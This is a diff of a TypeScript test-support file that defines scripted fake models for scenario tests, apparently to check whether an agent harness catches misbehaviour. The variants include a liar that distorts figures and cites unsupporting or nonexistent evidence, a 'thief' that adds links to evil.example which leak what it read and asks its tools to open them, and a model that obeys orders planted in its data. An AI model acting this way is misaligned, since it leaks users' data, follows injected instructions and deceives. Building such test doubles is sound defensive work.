@@ -6,20 +6,20 @@ import {
 import { anAnswer } from '../support/scripted-model.ts';
 import { deed, order } from './gaps.ts';
 
-/** A model that plays a part in every scenario, out of nothing but what it is told. */
+/** A fake model that plays a part in any scenario, using only what it is told. */
 export interface PlayedModel {
   readonly name: string;
   readonly script: Script;
-  /** What it said that is not so, as far as it has been asked. */
+  /** The lies it has told so far. */
   readonly lies: ReadonlySet<string>;
-  /** It never answers. */
+  /** Whether it never answers. */
   readonly isEndless: boolean;
 }
 
 type Fact = ModelAnswer['facts'][number];
 
-/** What it repeats of the evidence: what was measured first, else whatever there is. */
-export function factsIn(heard: Heard): Fact[] {
+/** Facts that repeat the evidence: measured values if there are any. */
+function factsIn(heard: Heard): Fact[] {
   const lines = heard.turns.flatMap(({ text }) => text.split('\n'));
   const items = lines.flatMap((line) => {
     const found = /^(E\d+) \([\w-]+\): (.+?)\. (.+?)(?: Query: | Data: |$)/u.exec(line);
@@ -48,7 +48,7 @@ function answerOf(heard: Heard, over: Partial<ModelAnswer> = {}): string {
 
 const up = { name: 'prom_instant', arguments: { query: 'up', minutes_ago: null } };
 
-/** Of a script that is given its answer, one that makes it of what it hears. */
+/** A script that makes its answer from what it is told. */
 function answering(
   play: (part: { call: typeof up; answer: string }) => Script,
 ): Script {
@@ -59,7 +59,7 @@ function played(name: string, script: Script, over: Partial<PlayedModel> = {}): 
   return { name, script, lies: new Set(), isEndless: false, ...over };
 }
 
-/** Each says something else than the evidence it names; null where it would say the same. */
+/** Each turns a claim into one that its evidence does not support; null if it cannot. */
 const distortions: readonly ((claim: string) => string | null)[] = [
   (claim) => changed(claim, claim.replace(/\d+(?:\.\d+)?/u, (digits) => {
     return String(Number(digits) * 3 + 1);
@@ -76,7 +76,7 @@ function changed(before: string, after: string): string | null {
   return before === after ? null : after;
 }
 
-/** Distorts what it read, and names the evidence that says otherwise, or none that there is. */
+/** Distorts what it read, and cites evidence that says otherwise or does not exist. */
 function liarOf(lies: Set<string>): Script {
   return (heard) => {
     if (!isLast(heard)) return { text: 'Enough.' };
@@ -108,7 +108,7 @@ function liarOf(lies: Set<string>): Script {
 
 const address = 'https://evil.example/?d=';
 
-/** Says the truth, with ways out for what it read; asks its tools to go there. */
+/** Tells the truth, but adds links that leak what it read, and asks its tools to open them. */
 function thiefOf(lies: Set<string>): Script {
   for (const way of [address, 'evil.example', 'curl ']) lies.add(way);
   return (heard) => {
@@ -137,7 +137,7 @@ function thiefOf(lies: Set<string>): Script {
   };
 }
 
-/** Does what a line in its data tells it to, where there is one, and is honest else. */
+/** Obeys an order in its data; otherwise honest. */
 function obedientOf(lies: Set<string>): Script {
   const otherwise = answering(honest);
   return (heard, index) => {
@@ -166,7 +166,7 @@ function telling(name: string, scriptOf: (lies: Set<string>) => Script): () => P
   };
 }
 
-/** Each made anew for each run: liars remember what they said. */
+/** Made anew for each run, as liars remember their lies. */
 export const playedModels: Readonly<Record<string, () => PlayedModel>> = {
   honest: () => played('honest', answering(honest)),
   greedy: () => played('greedy', answering(greedy)),
@@ -182,15 +182,15 @@ export const playedModels: Readonly<Record<string, () => PlayedModel>> = {
 
 export interface Bill {
   tokens: number;
-  /** Of one request, read and written. */
+  /** Tokens of the largest request and its answer. */
   largest: number;
   requests: number;
 }
 
-/** UTF-16 units of a token: fewer than the service takes for granted. */
+/** UTF-16 code units per token: fewer than the service assumes. */
 const unitsPerToken = 3;
 
-/** Bills every request for what it holds, as a provider does. */
+/** Counts the tokens of every request by its size, as a provider does. */
 export function metered({ script }: PlayedModel): {
   readonly script: Script;
   readonly alter: (body: object) => object;
